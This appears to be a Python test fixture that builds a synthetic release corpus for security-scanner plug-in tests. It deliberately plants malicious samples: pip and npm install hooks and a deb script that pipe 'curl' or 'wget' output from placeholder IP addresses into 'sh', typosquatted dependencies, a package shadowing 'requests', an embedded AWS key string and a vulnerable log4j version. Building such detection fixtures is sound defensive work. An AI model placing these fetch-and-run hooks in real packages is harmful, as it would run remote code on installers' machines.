"""A release of every kind the exam reads, built by real tools: the corpus the plug-in tests
run over (every registered plug-in reports something on it, and the contract checks read every
file of it)."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

from builders import deb_bytes, gzip_bytes, tar_bytes, zip_bytes

SETUP_PY = """\
from setuptools import setup
from setuptools.command.install import install
from evilpkg.helpers import post_install


class Install(install):
    def run(self):
        install.run(self)
        post_install()


setup(name="evil-pkg", version="1.0", cmdclass={"install": Install})
"""
HELPERS = """\
import os


def post_install():
    os.system("curl -s http://203.0.113.9/stage2 | sh")
"""
INSTALL_JS = """\
const { execSync } = require("child_process");
execSync("curl -s http://198.51.100.7/p.sh | sh");
"""
C_SOURCE = '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n'
AWS_KEYS = 'aws_access_key_id = "AKIAQYLPMN5HHHFPZAM2"\n'


def sdist() -> bytes:
    root = "evil-pkg-1.0"
    return gzip_bytes(
        tar_bytes(
            {
                f"{root}/PKG-INFO": "Metadata-Version: 2.1\nName: evil-pkg\nVersion: 1.0\n\n",
                f"{root}/setup.py": SETUP_PY,
                f"{root}/evilpkg/__init__.py": "",
                f"{root}/evilpkg/helpers.py": HELPERS,
                f"{root}/evil_pkg.egg-info/requires.txt": "reqeusts\n",
            }
        )
    )


def wheel() -> bytes:
    info = "shadow-1.0.dist-info"
    return zip_bytes(
        {
            f"{info}/METADATA": "Metadata-Version: 2.1\nName: shadow\nVersion: 1.0\n\n",
            f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
            f"{info}/RECORD": "",
            "requests/__init__.py": "from shadow import *\n",
            "shadow/__init__.py": "import os\nTOKEN = os.environ.get('HOME')\n",
        }
    )


def npm_tarball() -> bytes:
    manifest = {
        "name": "lib",
        "version": "1.0.0",
        "scripts": {"postinstall": "node install.js"},
        "dependencies": {"lodash": "4.17.20", "expresss": "^4.0.0"},
    }
    return gzip_bytes(
        tar_bytes(
            {
                "package/package.json": json.dumps(manifest, indent=2),
                "package/install.js": INSTALL_JS,
                "package/config.ini": AWS_KEYS,
            }
        )
    )


def jar() -> bytes:
    pom = "META-INF/maven/org.apache.logging.log4j/log4j-core/pom.properties"
    return zip_bytes(
        {
            "META-INF/MANIFEST.MF": "Manifest-Version: 1.0\nImplementation-Version: 2.14.1\n",
            pom: "groupId=org.apache.logging.log4j\nartifactId=log4j-core\nversion=2.14.1\n",
            "org/apache/logging/log4j/core/Logger.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34"
            + bytes(56),
        }
    )


def deb() -> bytes:
    control = "Package: tool\nVersion: 1.2-3\nArchitecture: amd64\nMaintainer: x <x@example.org>\n"
    script = "#!/bin/sh\nwget -q -O- http://192.0.2.44/i | sh\n"
    return deb_bytes(control, {"usr/bin/tool-update": script})


def elf_binary(directory: Path) -> bytes:
    compiler = shutil.which("gcc")
    if compiler is None:
        pytest.skip("gcc is not installed (see .ci/system-packages)")
    source = directory / "hello.c"
    source.write_text(C_SOURCE)
    out = directory / "hello"
    subprocess.run([compiler, "-O1", "-o", str(out), str(source)], check=True)
    return out.read_bytes()


def release_members(directory: Path) -> dict[str, bytes]:
    """An sdist with install hooks, a wheel, an npm tarball, a jar, a deb and an ELF binary."""
    return {
        "evil-pkg-1.0.tar.gz": sdist(),
        "shadow-1.0-py3-none-any.whl": wheel(),
        "lib-1.0.0.tgz": npm_tarball(),
        "log4j-core-2.14.1.jar": jar(),
        "tool_1.2-3_amd64.deb": deb(),
        "bin/hello": elf_binary(directory),
    }


def every_kind_members(directory: Path) -> dict[str, bytes]:
    """``release_members`` and a file of every other kind a plug-in looks at: an RPM, a 7z, a
    container image with distribution databases, a PE, a Mach-O, WebAssembly, compiled
    Python, lock files and manifests of every ecosystem, SBOMs, pages, images, empty files."""
    import importlib.util
    import marshal

    from binbuild import compile_c, minimal_macho
    from builders import docker_save_bytes, rpm_bytes, sevenzip_bytes

    pe = compile_c(directory, "tool.exe", ["-O1"], compiler="x86_64-w64-mingw32-gcc")
    layer = tar_bytes(
        {
            "etc/os-release": 'ID=debian\nVERSION_ID="12"\n',
            "etc/debian_version": "12.5\n",
            "var/lib/dpkg/status": "Package: tool\nStatus: install ok installed\nVersion: 1\n\n",
            "var/lib/dpkg/info/tool.list": "/usr/bin/tool\n",
            "usr/share/doc/tool/copyright": "Format: x\nLicense: MIT\n",
            "lib/apk/db/installed": "P:musl\nV:1.2.4-r2\n\n",
            "opt/conda/conda-meta/six-1.16.0-py_0.json": '{"name": "six", "version": "1.16.0"}',
            "srv/app/vendor/composer/installed.json": '{"packages": []}',
            "srv/app/index.html": "<script>fetch('/x')</script>\n",
            "srv/app/.env": "TOKEN=x\n",
            "srv/app/empty.txt": "",
        }
    )
    pyc = importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile("X = 1\n", "m", "exec"))
    nupkg = zip_bytes({"Lib.nuspec": "<package><metadata><id>Lib</id></metadata></package>"})
    return {
        **release_members(directory),
        "tool-1.0-1.x86_64.rpm": rpm_bytes("tool", "1.0", "1", {"./usr/bin/tool": b"#!/bin/sh\n"}),
        "extra.7z": sevenzip_bytes({"notes/readme.md": b"# notes\n"}),
        "image.tar": docker_save_bytes([layer]),
        "win/tool.exe": pe.read_bytes(),
        "mac/tool": minimal_macho(pie=True),
        "web/app.wasm": b"\0asm\x01\0\0\0",
        "py/m.pyc": pyc,
        "py/Lib-1.0.nupkg": nupkg,
        "dotnet/App.deps.json": '{"runtimeTarget": {"name": ".NETCoreApp,Version=v8.0"}}',
        "rust/Cargo.lock": '[[package]]\nname = "serde"\nversion = "1.0.0"\n',
        "go/go.mod": "module example.org/x\n\ngo 1.22\n",
        "go/go.sum": "golang.org/x/text v0.14.0 h1:abc=\n",
        "ruby/x.gemspec": 'Gem::Specification.new { |s| s.name = "x" }\n',
        "js/package-lock.json": '{"name": "x", "lockfileVersion": 3, "packages": {}}',
        "js/dist/app.min.js": "/*! lodash v4.17.21 */\nvar a=1;\n",
        "sbom/bom.json": '{"bomFormat": "CycloneDX", "specVersion": "1.6", "components": []}',
        "img/logo.png": b"\x89PNG\r\n\x1a\n" + bytes(32),
        "data/blob.bin": bytes(range(256)) * 4,
    }
